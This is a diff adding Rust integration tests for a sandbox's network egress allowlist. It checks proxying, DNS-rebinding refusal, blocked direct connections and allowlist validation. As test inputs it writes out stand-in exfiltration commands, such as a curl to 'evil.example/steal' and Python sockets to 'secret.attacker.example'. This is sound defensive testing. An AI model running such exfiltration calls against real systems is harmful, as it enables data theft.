@@ -1,0 +1,382 @@
+//! Threat: a rehearsal that may use the network (an `intent.network`
+//! allowlist) reaching more than it declared. Real loopback listeners on the
+//! host stand in for remote hosts; names reach them only through the
+//! system's `--egress-resolve` pins. Every assertion about what got through
+//! is made on the host side (what the listeners received) as well as in the
+//! run record's `rehearsal.egress`.
+
+mod common;
+use common::*;
+use std::io::{ErrorKind, Read, Write};
+use std::net::TcpListener;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+const BODY: &str = "pkg-content-from-upstream\n";
+
+/// A tiny HTTP server on host loopback: answers every request with BODY and
+/// records each request's first line and Host header.
+struct Upstream {
+    port: u16,
+    seen: Arc<Mutex<Vec<String>>>,
+}
+
+impl Upstream {
+    fn start() -> Upstream {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = l.local_addr().unwrap().port();
+        let seen = Arc::new(Mutex::new(Vec::new()));
+        let s = seen.clone();
+        std::thread::spawn(move || {
+            for c in l.incoming() {
+                let Ok(mut c) = c else { continue };
+                let s = s.clone();
+                std::thread::spawn(move || {
+                    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+                    let mut req = Vec::new();
+                    let mut buf = [0u8; 1024];
+                    while !req.windows(4).any(|w| w == b"\r\n\r\n") {
+                        match c.read(&mut buf) {
+                            Ok(0) | Err(_) => return,
+                            Ok(n) => req.extend_from_slice(&buf[..n]),
+                        }
+                    }
+                    let text = String::from_utf8_lossy(&req).into_owned();
+                    let first = text.lines().next().unwrap_or("").to_string();
+                    let host = text
+                        .lines()
+                        .find_map(|l| l.strip_prefix("Host: "))
+                        .unwrap_or("")
+                        .to_string();
+                    s.lock().unwrap().push(format!("{first} host={host}"));
+                    let _ = write!(
+                        c,
+                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{BODY}",
+                        BODY.len()
+                    );
+                });
+            }
+        });
+        Upstream { port, seen }
+    }
+
+    fn requests(&self) -> Vec<String> {
+        std::thread::sleep(Duration::from_millis(200));
+        self.seen.lock().unwrap().clone()
+    }
+}
+
+/// A plain TCP listener that must receive nothing.
+fn canary_listener() -> (TcpListener, u16) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let p = l.local_addr().unwrap().port();
+    l.set_nonblocking(true).unwrap();
+    (l, p)
+}
+
+fn accepted(l: &TcpListener) -> usize {
+    std::thread::sleep(Duration::from_millis(300));
+    let mut n = 0;
+    loop {
+        match l.accept() {
+            Ok(_) => n += 1,
+            Err(e) if e.kind() == ErrorKind::WouldBlock => return n,
+            Err(e) => panic!("accept: {e}"),
+        }
+    }
+}
+
+fn egress(r: &Run) -> Vec<Value> {
+    r.json["rehearsal"]["egress"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default()
+}
+
+fn entry<'a>(e: &'a [Value], name: &str, how: &str) -> Option<&'a Value> {
+    e.iter().find(|x| x["name"] == name && x["how"] == how)
+}
+
+#[test]
+fn an_allowed_name_is_fetched_through_the_proxy_and_reported_with_bytes() {
+    for who in identities() {
+        let up = Upstream::start();
+        let ws = Ws::new(who);
+        let host = format!("pkgs.example:{}", up.port);
+        let pin = format!("pkgs.example:{}:127.0.0.1", up.port);
+        let cmd = format!(
+            "set -e; curl -sS -o plain.txt http://{host}/simple/pkg.txt; \
+             curl -sS --proxytunnel -o tunnel.txt http://{host}/tunnel/pkg.txt; \
+             python3 -c 'import urllib.request,sys; sys.stdout.write(urllib.request.urlopen(\"http://{host}/py/pkg.txt\").read().decode())'"
+        );
+        let r = ws.rehearse_untouched(
+            &cmd,
+            &[
+                "--allow-net",
+                &host,
+                "--egress-resolve",
+                &pin,
+                "--expect-write",
+                "*.txt",
+            ],
+        );
+        assert_ran(who, &r);
+        assert_eq!(r.exit_code(), Some(0), "{who:?}: {r:#?}");
+        assert_eq!(r.out(), BODY, "{who:?}");
+        assert_eq!(r.decision(), "promote", "{who:?}: {:?}", r.reasons());
+        for f in ["plain.txt", "tunnel.txt"] {
+            let c = r
+                .change(f)
+                .unwrap_or_else(|| panic!("{who:?}: {f} created"));
+            assert_eq!(c["kind"], "created");
+        }
+        let seen = up.requests();
+        assert!(
+            seen.iter().any(|s| s.starts_with("GET /simple/pkg.txt ")),
+            "{who:?}: {seen:?}"
+        );
+        assert!(
+            seen.iter().any(|s| s.starts_with("GET /tunnel/pkg.txt ")),
+            "{who:?}: {seen:?}"
+        );
+        assert!(
+            seen.iter().any(|s| s.starts_with("GET /py/pkg.txt ")),
+            "{who:?}: {seen:?}"
+        );
+        let e = egress(&r);
+        let p = entry(&e, "pkgs.example", "proxy").unwrap_or_else(|| panic!("{who:?}: {e:?}"));
+        assert_eq!(p["allowed"], true);
+        assert_eq!(p["port"], up.port);
+        assert!(p["bytes_out"].as_u64().unwrap() > 0, "{p}");
+        assert!(
+            p["bytes_in"].as_u64().unwrap() >= 3 * BODY.len() as u64,
+            "{p}"
+        );
+        assert!(
+            r.notes()
+                .iter()
+                .any(|n| n.contains("would have contacted pkgs.example")),
+            "{:?}",
+            r.notes()
+        );
+        let stripped = r.stripped();
+        for v in ["HTTP_PROXY", "https_proxy", "NO_PROXY"] {
+            assert!(
+                stripped.contains(&format!("provided:env:{v}")),
+                "{stripped:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn a_name_outside_the_allowlist_is_refused_and_blocks_naming_it() {
+    for who in identities() {
+        let up = Upstream::start();
+        let ws = Ws::new(who);
+        let allowed = format!("pkgs.example:{}", up.port);
+        let cmd = format!(
+            "curl -sS http://evil.example:{p}/steal; curl -sS --proxytunnel http://evil.example:{p}/tunnel; \
+             curl -sS http://pkgs.example:{other}/wrong-port; true",
+            p = up.port,
+            other = up.port.wrapping_add(1).max(1)
+        );
+        let r = ws.rehearse_untouched(
+            &cmd,
+            &[
+                "--allow-net",
+                &allowed,
+                "--egress-resolve",
+                &format!("evil.example:{}:127.0.0.1", up.port),
+            ],
+        );
+        assert_ran(who, &r);
+        assert!(up.requests().is_empty(), "{who:?}: {:?}", up.requests());
+        assert_eq!(r.decision(), "blocked", "{who:?}");
+        let e = egress(&r);
+        let evil = entry(&e, "evil.example", "proxy").unwrap_or_else(|| panic!("{e:?}"));
+        assert_eq!(evil["allowed"], false);
+        assert!(
+            evil["reason"].as_str().unwrap().contains("allowlist"),
+            "{evil}"
+        );
+        assert!(
+            r.reasons()
+                .iter()
+                .any(|x| x.starts_with("[evidence.network]") && x.contains("evil.example")),
+            "{:?}",
+            r.reasons()
+        );
+        assert!(
+            r.out().contains("not on the run's network allowlist"),
+            "{}",
+            r.out()
+        );
+        let wrong = entry(&e, "pkgs.example", "proxy").unwrap_or_else(|| panic!("{e:?}"));
+        assert_eq!(wrong["allowed"], false, "the port is part of the pattern");
+    }
+}
+
+#[test]
+fn an_allowed_name_resolving_to_host_addresses_is_refused_without_a_system_pin() {
+    for who in identities() {
+        let up = Upstream::start();
+        let ws = Ws::new(who);
+        // `localhost` resolves to loopback on the host: the name is allowed,
+        // the address is not (no DNS-rebinding path to host services).
+        // (`--noproxy ''`: NO_PROXY keeps localhost direct by default.)
+        let envelope = format!(
+            "command: curl -sS --noproxy '' http://localhost:{p}/rebind; curl -sS --noproxy '' --proxytunnel http://localhost:{p}/t; true\n\
+             intent:\n  network: {{allow: [\"localhost:{p}\"]}}\n",
+            p = up.port
+        );
+        let f = ws.root.path().join("rebind.yaml");
+        std::fs::write(&f, envelope).unwrap();
+        ws.chown_all();
+        let r = ws.execute(&["--file", f.to_str().unwrap()]);
+        assert_ran(who, &r);
+        assert!(up.requests().is_empty(), "{who:?}: {:?}", up.requests());
+        assert_eq!(r.decision(), "blocked", "{who:?}");
+        let e = egress(&r);
+        let l = entry(&e, "localhost", "proxy").unwrap_or_else(|| panic!("{e:?}"));
+        assert_eq!(l["allowed"], false);
+        assert!(l["reason"].as_str().unwrap().contains("loopback"), "{l}");
+        // The envelope cannot pin a name itself.
+        let envelope = format!(
+            "command: 'true'\nintent:\n  network: {{allow: [\"localhost:{p}\"], resolve: [\"localhost:{p}:127.0.0.1\"]}}\n",
+            p = up.port
+        );
+        std::fs::write(&f, envelope).unwrap();
+        let r = ws.execute(&["--file", f.to_str().unwrap()]);
+        assert_eq!(r.code, 2, "{r:?}");
+        let envelope = "command: 'true'\negress_resolve: [\"localhost:80:127.0.0.1\"]\n";
+        std::fs::write(&f, envelope).unwrap();
+        let r = ws.execute(&["--file", f.to_str().unwrap()]);
+        assert_eq!(r.code, 2, "{r:?}");
+    }
+}
+
+#[test]
+fn direct_connections_and_dns_lookups_are_blocked_and_recorded_by_name() {
+    for who in identities() {
+        let up = Upstream::start();
+        let (canary, cport) = canary_listener();
+        let ws = Ws::new(who);
+        let script = format!(
+            r#"
+import socket
+print(socket.gethostbyname('secret.attacker.example'))
+for target in [('127.0.0.1', {cport}), ('secret.attacker.example', 443), ('pkgs.example', {up})]:
+    try:
+        socket.create_connection(target, 3).sendall(b'x')
+        print('CONNECTED', target)
+    except OSError as e:
+        print('refused', target, e)
+"#,
+            up = up.port
+        );
+        let cmd = format!("python3 -c {}", sq(&script));
+        let r = ws.rehearse_untouched(
+            &cmd,
+            &[
+                "--allow-net",
+                &format!("pkgs.example:{}", up.port),
+                "--egress-resolve",
+                &format!("pkgs.example:{}:127.0.0.1", up.port),
+            ],
+        );
+        assert_ran(who, &r);
+        assert!(!r.out().contains("CONNECTED"), "{who:?}: {}", r.out());
+        assert!(r.out().starts_with("198.18."), "{who:?}: {}", r.out());
+        assert_eq!(accepted(&canary), 0, "{who:?}");
+        assert!(up.requests().is_empty(), "{who:?}");
+        assert_eq!(r.decision(), "blocked");
+        let e = egress(&r);
+        let dns = entry(&e, "secret.attacker.example", "dns").unwrap_or_else(|| panic!("{e:?}"));
+        assert_eq!(dns["allowed"], false);
+        assert!(dns["port"].is_null());
+        let direct =
+            entry(&e, "secret.attacker.example", "direct").unwrap_or_else(|| panic!("{e:?}"));
+        assert_eq!(direct["port"], 443);
+        let loop_direct = entry(&e, "127.0.0.1", "direct").unwrap_or_else(|| panic!("{e:?}"));
+        assert_eq!(loop_direct["port"], cport);
+        let allowed_direct = entry(&e, "pkgs.example", "direct").unwrap_or_else(|| panic!("{e:?}"));
+        assert_eq!(
+            allowed_direct["allowed"], false,
+            "an allowed name is still refused when the proxy is bypassed"
+        );
+        assert!(
+            r.reasons()
+                .iter()
+                .any(|x| x.contains("secret.attacker.example") && x.contains("dns")),
+            "{:?}",
+            r.reasons()
+        );
+    }
+}
+
+#[test]
+fn invalid_allowlists_are_rejected_before_anything_runs() {
+    let ws = Ws::new(Who::User);
+    for (bad, want) in [
+        ("*", "bare *"),
+        ("https://pypi.example", "URL"),
+        ("pypi.example/simple", "path"),
+        ("pypi.example:0", "port"),
+        ("pypi.example:70000", "port"),
+        ("10.0.0.1", "IP address"),
+        ("", "empty"),
+    ] {
+        let r = ws.rehearse("true", &["--allow-net", bad]);
+        assert_eq!(r.code, 2, "{bad:?}: {r:?}");
+        assert!(
+            r.stderr.contains("intent.network.allow[0]") && r.stderr.contains(want),
+            "{bad:?}: {}",
+            r.stderr
+        );
+    }
+    let f = ws.root.path().join("bad.yaml");
+    for (text, want) in [
+        ("intent: {network: {allow: []}}", "intent.network.allow"),
+        ("intent: {network: host}", "network"),
+        (
+            "intent: {network: {deny: [a.example]}}",
+            "expected none, or {allow",
+        ),
+        (
+            "intent: {network: {allow: [ok.example, '*.x']}}",
+            "intent.network.allow[1]",
+        ),
+    ] {
+        std::fs::write(&f, format!("command: 'true'\n{text}\n")).unwrap();
+        let r = ws.execute(&["--file", f.to_str().unwrap()]);
+        assert_eq!(r.code, 2, "{text}: {r:?}");
+        assert!(r.stderr.contains(want), "{text}: {}", r.stderr);
+    }
+}
+
+#[test]
+fn network_none_runs_as_before_without_proxy_or_resolver() {
+    for who in identities() {
+        let ws = Ws::new(who);
+        let host_resolv = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
+        let r = ws.rehearse_untouched(
+            "env | grep -i _proxy; cat /etc/resolv.conf; curl -sS http://pkgs.example/ ; true",
+            &[],
+        );
+        assert_ran(who, &r);
+        assert!(!r.out().to_lowercase().contains("_proxy="), "{}", r.out());
+        assert!(r.out().contains(host_resolv.trim()), "{}", r.out());
+        assert!(r.json["rehearsal"].get("egress").is_none(), "{}", r.json);
+        assert!(r.stripped().contains(&"network".to_string()));
+        assert!(
+            !r.stripped().iter().any(|s| s.starts_with("provided:")),
+            "{:?}",
+            r.stripped()
+        );
+        assert_eq!(
+            r.json["rehearsal"]["sandbox"]["network"],
+            "none (new network namespace, loopback only)"
+        );
+    }
+}
